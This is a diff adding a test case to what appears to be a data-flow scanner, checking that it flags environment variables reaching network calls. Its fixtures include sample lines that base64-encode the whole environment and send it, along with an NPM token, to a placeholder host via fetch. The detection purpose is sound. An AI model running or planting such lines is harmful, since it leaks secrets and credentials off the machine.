@@ -357,6 +357,23 @@ describe('data flow', () => {
     ).toEqual([['env:*', 'https.request().write']]);
   });
 
+  it('does not follow the whole environment through a helper it configures, only through serialisers', () => {
+    const helper = [
+      'const pm = pickManager(process.env);',
+      "const out = run(pm, ['view']);",
+      'fetch(JSON.parse(out).url);',
+    ].join('\n');
+    expect(flows(helper)).toEqual([]);
+    const serialised = [
+      'const all = Object.entries(process.env).map(([k, v]) => k + v).join();',
+      "fetch('https://c.invalid/?d=' + Buffer.from(all).toString('base64'));",
+    ].join('\n');
+    expect(flows(serialised)).toEqual([['env:*', 'fetch']]);
+    expect(flows("const t = readToken(process.env.NPM_TOKEN);\nfetch('https://c.invalid/' + t);")).toEqual([
+      ['env:NPM_TOKEN', 'fetch'],
+    ]);
+  });
+
   it('does not follow the environment handed to a child process into what it prints', () => {
     const source = [
       "const { execSync } = require('child_process');",
